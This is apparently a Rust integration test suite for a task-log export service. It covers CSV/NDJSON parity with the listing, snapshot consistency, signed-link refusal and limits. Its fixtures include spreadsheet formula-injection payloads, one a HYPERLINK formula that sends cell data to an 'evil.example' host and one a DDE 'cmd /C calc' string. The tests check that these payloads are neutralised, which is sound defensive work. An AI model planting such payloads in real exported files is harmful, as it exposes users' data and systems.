//! Exports (CSV, NDJSON) of both logs and their signed links, on the backend under test:
//! an export equals the paged listing row for row, holds one snapshot under a concurrent
//! writer, stops and frees its connection when the client goes away, refuses bad links,
//! neutralises spreadsheet formulas and keeps its limits.

use std::collections::BTreeSet;
use std::time::Duration;

use mj_tasks::service::Role;
use mj_tasks::service::export::link::{self, Claims};
use mj_tasks::service::export::{Format, LinkKey};
use mj_tasks::service::{Midjourneys, TaskFilter};
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::helpers::{Task, TestApp, TestDb, TestUser, env_cases, spawn_app, spawn_app_with};
use crate::task_log::Row;

const SECRET: &str = "a test secret for export links";

/// Stores Midjourney tasks with ids `ids` (owner, channel, status, submit time and prompt
/// spread over them), 500 a statement.
async fn bulk(app: &TestApp, ids: std::ops::RangeInclusive<i64>, users: &[i64]) {
    let all: Vec<i64> = ids.collect();
    for chunk in all.chunks(500) {
        let values: Vec<String> = chunk
            .iter()
            .map(|id| {
                let user = users[(*id as usize) % users.len()];
                let status = ["SUCCESS", "FAILURE", "IN_PROGRESS"][(*id as usize) % 3];
                format!(
                    "({id}, {user}, 'mj-{id}', 'IMAGINE', '{status}', '100%', {}, {}, 'prompt {id}', {}, 'x')",
                    1_700_000_000_000 + id * 1000,
                    id % 5,
                    id % 7
                )
            })
            .collect();
        app.sql(&format!(
            "INSERT INTO midjourneys (id, user_id, mj_id, action, status, progress, submit_time, channel_id, prompt, quota, video_urls) VALUES {}",
            values.join(", ")
        ))
        .await;
    }
}

/// GETs `path` (with `user`'s credentials when given): status, headers and body.
async fn fetch(
    app: &TestApp,
    user: Option<&TestUser>,
    path: &str,
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let mut req = app.client.get(app.url(path));
    if let Some(u) = user {
        req = req
            .header("Authorization", format!("Bearer {}", u.token))
            .header("New-Api-User", u.id.to_string());
    }
    let resp = req.send().await.expect("request");
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    let body = resp.bytes().await.expect("whole body").to_vec();
    (status, headers, body)
}

fn ndjson(body: &[u8]) -> Vec<Value> {
    std::str::from_utf8(body)
        .expect("utf-8")
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON object per line"))
        .collect()
}

fn csv_rows(body: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new().from_reader(body);
    let header = reader
        .headers()
        .expect("header")
        .iter()
        .map(String::from)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("a record").iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// Every item of a list route, page by page (100 a page).
async fn listing(app: &TestApp, user: &TestUser, path: &str, query: &str) -> Vec<Value> {
    let mut out = Vec::new();
    for page in 1.. {
        let a = app
            .get_as(user, &format!("{path}?{query}&p={page}&page_size=100"))
            .await;
        assert_eq!(a.status, 200, "{}", a.text);
        let items = a.items().clone();
        let done = items.len() < 100;
        out.extend(items);
        if done {
            break;
        }
    }
    out
}

/// Each listing item's fields, with the same values, in the export row at the same place.
fn assert_same_rows(listed: &[Value], exported: &[Value]) {
    let ids = |rows: &[Value]| {
        rows.iter()
            .map(|r| r["id"].as_i64().unwrap())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        ids(listed),
        ids(exported),
        "the same rows in the same order"
    );
    for (item, row) in listed.iter().zip(exported) {
        for (key, value) in item.as_object().unwrap() {
            if key == "properties" || key == "data" || key == "username" {
                continue; // shaped differently (columns of their own; JSON text)
            }
            if key == "channel_id" && row.get(key).is_none() {
                // The task log's /self answers 0 where the export leaves the column out.
                assert_eq!(value, &json!(0));
                continue;
            }
            assert_eq!(&row[key], value, "{key} of row {}", item["id"]);
        }
    }
}

#[tokio::test]
async fn mj_export_equals_the_paged_listing_for_generated_filters() {
    let app = spawn_app().await;
    let admin = app.user("boss", Role::Admin).await;
    let alice = app.user("alice", Role::Common).await;
    let bob = app.user("bob", Role::Common).await;
    bulk(&app, 1..=260, &[alice.id, bob.id, admin.id]).await;
    let cases = env_cases("EXPORT_CASES", 12);
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig::with_cases(cases));
    let strategy = (
        prop::option::of(0i64..300),
        prop::option::of(0i64..300),
        prop::option::of(0i64..6),
        prop::option::of(1i64..300),
        any::<bool>(),
    );
    let queries = std::cell::RefCell::new(Vec::new());
    runner
        .run(&strategy, |(from, to, channel, mj, own)| {
            let mut q = vec!["format=ndjson".to_owned()];
            if let Some(f) = from {
                q.push(format!("start_timestamp={}", 1_700_000_000_000 + f * 1000));
            }
            if let Some(t) = to {
                q.push(format!("end_timestamp={}", 1_700_000_000_000 + t * 1000));
            }
            if let Some(c) = channel {
                q.push(format!("channel_id={c}"));
            }
            if let Some(m) = mj {
                q.push(format!("mj_id=mj-{m}"));
            }
            queries.borrow_mut().push((q.join("&"), own));
            Ok(())
        })
        .unwrap();
    for (query, own) in queries.into_inner() {
        let (user, list, export) = if own {
            (&alice, "/api/mj/self", "/api/mj/self/export")
        } else {
            (&admin, "/api/mj/", "/api/mj/export")
        };
        let listed = listing(&app, user, list, &query).await;
        let (status, headers, body) = fetch(&app, Some(user), &format!("{export}?{query}")).await;
        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
        let rows = ndjson(&body);
        assert_eq!(
            headers["x-export-rows"].to_str().unwrap(),
            rows.len().to_string()
        );
        assert_same_rows(&listed, &rows);
        if own {
            assert!(
                rows.iter().all(|r| r["user_id"] == alice.id),
                "only alice's own tasks"
            );
            assert!(
                rows.iter().all(|r| r.get("channel_id").is_none()),
                "channel_id is admin-only"
            );
        }
    }
}

#[tokio::test]
async fn task_log_export_equals_the_listing_and_never_shows_private_data() {
    let app = spawn_app().await;
    let backend = app.db.backend;
    let admin = app.user("boss", Role::Admin).await;
    let alice = app.user("alice", Role::Common).await;
    for id in 1..=130 {
        let mut row = Row::of(id, if id % 2 == 0 { alice.id } else { admin.id });
        row.task_id = Some(Box::leak(format!("task-{id}").into_boxed_str()));
        row.platform = Some(if id % 3 == 0 { "suno" } else { "kling" });
        row.status = Some("SUCCESS");
        row.submit_time = Some(1_700_000_000 + id);
        row.private_data = Some(r#"{"result_url":"https://cdn/x.mp4","key":"sk-SECRET-123"}"#);
        row.properties = Some(r#"{"input":"=HYPERLINK(\"http://evil\")"}"#);
        app.sql(&row.insert_sql(backend)).await;
    }
    for (user, list, export, query) in [
        (&admin, "/api/task/", "/api/task/export", "platform=suno"),
        (
            &admin,
            "/api/task/",
            "/api/task/export",
            "start_timestamp=1700000050",
        ),
        (
            &alice,
            "/api/task/self",
            "/api/task/self/export",
            "status=SUCCESS",
        ),
    ] {
        let listed = listing(&app, user, list, query).await;
        let (status, _, body) =
            fetch(&app, Some(user), &format!("{export}?{query}&format=ndjson")).await;
        assert_eq!(status, 200);
        assert!(
            !String::from_utf8_lossy(&body).contains("sk-SECRET"),
            "private_data never leaves"
        );
        let rows = ndjson(&body);
        assert!(!listed.is_empty());
        assert_same_rows(&listed, &rows);
        assert_eq!(rows[0]["result_url"], "https://cdn/x.mp4");
        assert_eq!(
            rows[0]["input"], "=HYPERLINK(\"http://evil\")",
            "NDJSON keeps values as stored"
        );
    }
    let (_, _, body) = fetch(&app, Some(&admin), "/api/task/export").await;
    let (header, rows) = csv_rows(&body);
    let input = header.iter().position(|h| h == "input").unwrap();
    assert_eq!(
        rows[0][input], "'=HYPERLINK(\"http://evil\")",
        "CSV neutralises the formula"
    );
}

#[tokio::test]
async fn csv_neutralises_formula_cells_and_writes_times_in_the_zone() {
    let app = spawn_app().await;
    let alice = app.user("alice", Role::Common).await;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\tleading tab",
        "\rleading return",
        "a plain, \"quoted\" prompt\nover two lines",
    ];
    // 2026-03-29 00:30 UTC, the night Europe/Berlin moves from +01:00 to +02:00 at 01:00 UTC.
    let before = 1_774_744_200_000;
    for (i, p) in hostile.iter().enumerate() {
        app.task(
            Task::of(alice.id)
                .prompt(p)
                .submitted(before + i as i64 * 1_800_000),
        )
        .await;
    }
    let (status, headers, body) = fetch(
        &app,
        Some(&alice),
        "/api/mj/self/export?tz=Europe/Berlin&bom=true",
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"midjourney-tasks-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert!(
        body.starts_with("\u{feff}".as_bytes()),
        "a BOM was asked for"
    );
    let (header, rows) = csv_rows(&body[3..]);
    assert_eq!(&header[..4], ["id", "user_id", "code", "mj_id"]);
    assert!(!header.contains(&"channel_id".to_owned()));
    let prompt = header.iter().position(|h| h == "prompt").unwrap();
    let iso = header.iter().position(|h| h == "submit_time_iso").unwrap();
    // Newest first: the rows come in reverse order of insertion.
    let mut rows = rows;
    rows.reverse();
    for (row, p) in rows.iter().zip(hostile) {
        let expected = if p.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{p}")
        } else {
            p.to_owned()
        };
        assert_eq!(row[prompt], expected);
    }
    assert_eq!(rows[0][iso], "2026-03-29T01:30:00.000+01:00");
    assert_eq!(
        rows[2][iso], "2026-03-29T03:30:00.000+02:00",
        "after the spring jump"
    );
    let (status, _, body) = fetch(&app, Some(&alice), "/api/mj/self/export?tz=Not/AZone").await;
    assert_eq!(status, 400);
    assert!(String::from_utf8_lossy(&body).contains("unknown time zone"));
    let (status, _, _) = fetch(&app, Some(&alice), "/api/mj/self/export?format=xlsx").await;
    assert_eq!(status, 400);
}

#[tokio::test]
async fn an_export_is_one_snapshot_under_a_concurrent_writer() {
    let app = spawn_app().await;
    let admin = app.user("boss", Role::Admin).await;
    bulk(&app, 5_001..=15_000, &[admin.id]).await;
    let before: BTreeSet<i64> = (5_001..=15_000).collect();
    let resp = app
        .client
        .get(app.url("/api/mj/export?format=ndjson"))
        .header("Authorization", format!("Bearer {}", admin.token))
        .header("New-Api-User", admin.id.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["x-export-rows"], "10000");
    let mut resp = resp;
    let mut body = resp.chunk().await.unwrap().unwrap().to_vec();
    // Newest first: the oldest ids are read last. Delete some of them, move others, and
    // insert rows between them while the export runs.
    app.sql("DELETE FROM midjourneys WHERE id BETWEEN 5001 AND 5500")
        .await;
    app.sql("UPDATE midjourneys SET submit_time = 1 WHERE id BETWEEN 5501 AND 6000")
        .await;
    bulk(&app, 1..=1_000, &[admin.id]).await;
    bulk(&app, 20_001..=20_500, &[admin.id]).await;
    while let Some(chunk) = resp.chunk().await.unwrap() {
        body.extend_from_slice(&chunk);
    }
    let rows = ndjson(&body);
    let ids: Vec<i64> = rows.iter().map(|r| r["id"].as_i64().unwrap()).collect();
    let seen: BTreeSet<i64> = ids.iter().copied().collect();
    assert_eq!(ids.len(), seen.len(), "no row twice");
    assert_eq!(
        seen, before,
        "exactly the rows of the moment the export began"
    );
    let moved = rows.iter().find(|r| r["id"] == 5_600).unwrap();
    assert_ne!(moved["submit_time"], 1, "values as of the snapshot");
}

/// A figure of `/metrics` (the sum of its samples).
async fn metric(app: &TestApp, name: &str) -> f64 {
    let text = app
        .client
        .get(app.url("/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    text.lines()
        .filter(|l| l.starts_with(name) && l[name.len()..].starts_with([' ', '{']))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

#[tokio::test]
async fn a_client_that_goes_away_stops_the_export_and_frees_its_connection() {
    let app = spawn_app().await;
    let admin = app.user("boss", Role::Admin).await;
    bulk(&app, 1..=30_000, &[admin.id]).await;
    let idle_in_use = metric(&app, "mj_tasks_db_pool_connections{state=\"in_use\"}").await;
    let mut resp = app
        .client
        .get(app.url("/api/mj/export"))
        .header("Authorization", format!("Bearer {}", admin.token))
        .header("New-Api-User", admin.id.to_string())
        .send()
        .await
        .unwrap();
    assert!(resp.chunk().await.unwrap().is_some());
    assert_eq!(metric(&app, "mj_tasks_exports_running").await, 1.0);
    drop(resp);
    let mut waited = Duration::ZERO;
    while metric(&app, "mj_tasks_exports_running").await > 0.0 {
        assert!(waited < Duration::from_secs(10), "the export did not stop");
        tokio::time::sleep(Duration::from_millis(50)).await;
        waited += Duration::from_millis(50);
    }
    let written = metric(&app, "mj_tasks_export_rows_total").await;
    assert!(
        written < 30_000.0,
        "it stopped early ({written} rows written)"
    );
    // The connection goes back to the pool as the task ends (its rollback finishing).
    let mut in_use = f64::MAX;
    for _ in 0..100 {
        in_use = metric(&app, "mj_tasks_db_pool_connections{state=\"in_use\"}").await;
        if in_use <= idle_in_use {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(in_use, idle_in_use, "its connection is back in the pool");
}

/// A GraphQL export link of `user` for the Midjourney log.
async fn gql_link(app: &TestApp, user: &TestUser, args: &str) -> String {
    let a = app
        .gql(
            user,
            &format!("{{ midjourneyTaskExport{args} {{ url expiresAt format }} }}"),
        )
        .await;
    assert_eq!(a.status, 200, "{}", a.text);
    a.json["data"]["midjourneyTaskExport"]["url"]
        .as_str()
        .unwrap_or_else(|| panic!("a url: {}", a.text))
        .to_owned()
}

#[tokio::test]
async fn signed_links_refuse_altered_foreign_expired_and_banned() {
    let app = spawn_app_with(TestDb::new().await, |c| {
        c.exports.export_link_secret = SECRET.into();
    })
    .await;
    let alice = app.user("alice", Role::Common).await;
    let bob = app.user("bob", Role::Common).await;
    for _ in 0..3 {
        app.task(Task::of(alice.id).status("FAILURE")).await;
        app.task(Task::of(bob.id).status("FAILURE")).await;
    }
    let url = gql_link(
        &app,
        &alice,
        "(filter: {status: {eq: \"FAILURE\"}}, format: NDJSON)",
    )
    .await;
    assert!(url.starts_with("/api/mj/export/download?token="));
    // A plain link, no headers: alice's three tasks.
    let (status, _, body) = fetch(&app, None, &url).await;
    assert_eq!(status, 200);
    let rows = ndjson(&body);
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().all(|r| r["user_id"] == alice.id));
    // With alice's own credentials it still opens; with bob's it is refused.
    assert_eq!(fetch(&app, Some(&alice), &url).await.0, 200);
    let (status, _, body) = fetch(&app, Some(&bob), &url).await;
    assert_eq!(status, 403, "{}", String::from_utf8_lossy(&body));
    // Altered: one character of the claims changed, or the signature cut.
    let token = url.split("token=").nth(1).unwrap();
    let mut altered = token.as_bytes().to_vec();
    altered[10] = if altered[10] == b'A' { b'B' } else { b'A' };
    let altered = String::from_utf8(altered).unwrap();
    for bad in [altered.as_str(), &token[..token.len() - 2], "", "x.y"] {
        let (status, _, body) =
            fetch(&app, None, &format!("/api/mj/export/download?token={bad}")).await;
        assert_eq!(status, 403);
        assert!(String::from_utf8_lossy(&body).contains("not valid"));
    }
    // Of another log: refused.
    let (status, _, _) = fetch(
        &app,
        None,
        &format!("/api/task/export/download?token={token}"),
    )
    .await;
    assert_eq!(status, 403);
    // Expired: a link signed with the right key, past its time.
    let claims = Claims::<Midjourneys> {
        log: "midjourneys".into(),
        user: alice.id,
        own: false,
        filter: TaskFilter::default(),
        order: Vec::new(),
        format: Format::Csv,
        tz: "UTC".into(),
        bom: false,
        exp: chrono::Utc::now().timestamp() - 1,
    };
    let expired = link::sign(&LinkKey::new(SECRET), &claims).unwrap();
    let (status, _, body) = fetch(
        &app,
        None,
        &format!("/api/mj/export/download?token={expired}"),
    )
    .await;
    assert_eq!(status, 403);
    assert!(String::from_utf8_lossy(&body).contains("expired"));
    // Signed with another key: not valid.
    let forged = link::sign(
        &LinkKey::new("another secret"),
        &Claims {
            exp: i64::MAX,
            ..claims
        },
    )
    .unwrap();
    assert_eq!(
        fetch(
            &app,
            None,
            &format!("/api/mj/export/download?token={forged}")
        )
        .await
        .0,
        403
    );
    // A ban applies to the link already issued.
    app.sql(&format!(
        "UPDATE users SET status = 2 WHERE id = {}",
        alice.id
    ))
    .await;
    let (status, _, body) = fetch(&app, None, &url).await;
    assert_eq!(status, 403, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("banned"));
}

#[tokio::test]
async fn a_demoted_admins_link_exports_only_their_own_tasks() {
    let app = spawn_app().await;
    let admin = app.user("boss", Role::Admin).await;
    let alice = app.user("alice", Role::Common).await;
    app.task(Task::of(alice.id)).await;
    app.task(Task::of(admin.id)).await;
    let url = gql_link(&app, &admin, "(format: NDJSON)").await;
    let rows = ndjson(&fetch(&app, None, &url).await.2);
    assert_eq!(rows.len(), 2);
    assert!(rows[0].get("channel_id").is_some());
    app.sql(&format!(
        "UPDATE users SET role = 1 WHERE id = {}",
        admin.id
    ))
    .await;
    let rows = ndjson(&fetch(&app, None, &url).await.2);
    assert_eq!(rows.len(), 1, "the scope is decided at download");
    assert!(rows[0].get("channel_id").is_none(), "and the columns");
    // An admin-only filter in a link is refused once its user is no longer an admin.
    app.sql(&format!(
        "UPDATE users SET role = 10 WHERE id = {}",
        admin.id
    ))
    .await;
    let url = gql_link(&app, &admin, "(filter: {channelId: {eq: 0}})").await;
    app.sql(&format!(
        "UPDATE users SET role = 1 WHERE id = {}",
        admin.id
    ))
    .await;
    let (status, _, body) = fetch(&app, None, &url).await;
    assert_eq!(status, 403, "{}", String::from_utf8_lossy(&body));
}

#[tokio::test]
async fn export_limits_refuse_clearly() {
    let app = spawn_app_with(TestDb::new().await, |c| {
        c.exports.export_max_per_user = 1;
        c.exports.export_max_rows = 20_000;
    })
    .await;
    let admin = app.user("boss", Role::Admin).await;
    let alice = app.user("alice", Role::Common).await;
    bulk(&app, 1..=20_001, &[admin.id, alice.id]).await;
    // Over the row cap: refused before any row, naming the numbers.
    let (status, _, body) = fetch(&app, Some(&admin), "/api/mj/export").await;
    let body = String::from_utf8_lossy(&body);
    assert_eq!(status, 400, "{body}");
    assert!(
        body.contains("20001 rows") && body.contains("at most 20000"),
        "{body}"
    );
    // One running export per user: a second is refused until the first ends.
    let mut first = app
        .client
        .get(app.url("/api/mj/export?end_timestamp=1700019000000"))
        .header("Authorization", format!("Bearer {}", admin.token))
        .header("New-Api-User", admin.id.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(first.status(), 200);
    assert!(first.chunk().await.unwrap().is_some());
    let (status, _, body) = fetch(
        &app,
        Some(&admin),
        "/api/mj/export?end_timestamp=1700000010000",
    )
    .await;
    assert_eq!(status, 429, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("at most 1 exports at once per user"));
    // Another user is not held up.
    assert_eq!(
        fetch(
            &app,
            Some(&alice),
            "/api/mj/self/export?end_timestamp=1700000010000"
        )
        .await
        .0,
        200
    );
    while first.chunk().await.unwrap().is_some() {}
    drop(first);
    let mut admitted = false;
    for _ in 0..100 {
        if fetch(
            &app,
            Some(&admin),
            "/api/mj/export?end_timestamp=1700000010000",
        )
        .await
        .0 == 200
        {
            admitted = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(admitted, "the slot came back");
    // Users cannot reach the admin export.
    let (_, _, body) = fetch(&app, Some(&alice), "/api/mj/export").await;
    assert_eq!(
        serde_json::from_slice::<Value>(&body).unwrap()["success"],
        json!(false)
    );
}

#[tokio::test]
async fn graphql_refuses_bad_export_arguments_with_codes() {
    let app = spawn_app().await;
    let alice = app.user("alice", Role::Common).await;
    let a = app
        .gql(
            &alice,
            "{ midjourneyTaskExport(timeZone: \"Moon/Base\") { url } }",
        )
        .await;
    assert_eq!(a.codes(), ["BAD_FILTER"]);
    let a = app
        .gql(
            &alice,
            "{ midjourneyTaskExport(filter: {channelId: {eq: 1}}) { url } }",
        )
        .await;
    assert_eq!(a.codes(), ["FORBIDDEN"]);
    let a = app
        .gql(&alice, "{ taskExport(format: NDJSON) { url expiresAt } }")
        .await;
    assert!(
        a.json["data"]["taskExport"]["url"]
            .as_str()
            .unwrap()
            .starts_with("/api/task/export/download?token=")
    );
    let a = app
        .gql_vars(None, "{ taskExport { url } }", json!({}))
        .await;
    assert_eq!(a.codes(), ["UNAUTHENTICATED"]);
}

#[tokio::test]
async fn an_export_outlives_the_statement_timeout_of_each_batch() {
    // An export holds its connection for as long as the client reads; the statement timeout
    // bounds each of its batches, not the whole run (SQLite's interrupt counts from the
    // moment a connection is handed out, so exports have a pool of their own there).
    let app = spawn_app_with(TestDb::new().await, |c| c.db.db_statement_timeout_ms = 300).await;
    let admin = app.user("boss", Role::Admin).await;
    bulk(&app, 1..=12_000, &[admin.id]).await;
    let mut resp = app
        .client
        .get(app.url("/api/mj/export?format=ndjson"))
        .header("Authorization", format!("Bearer {}", admin.token))
        .header("New-Api-User", admin.id.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let mut body = Vec::new();
    loop {
        match resp.chunk().await {
            Ok(Some(chunk)) => body.extend_from_slice(&chunk),
            Ok(None) => break,
            Err(e) => panic!("the export broke off after {} bytes: {e}", body.len()),
        }
        tokio::time::sleep(Duration::from_millis(60)).await;
    }
    assert_eq!(ndjson(&body).len(), 12_000);
}
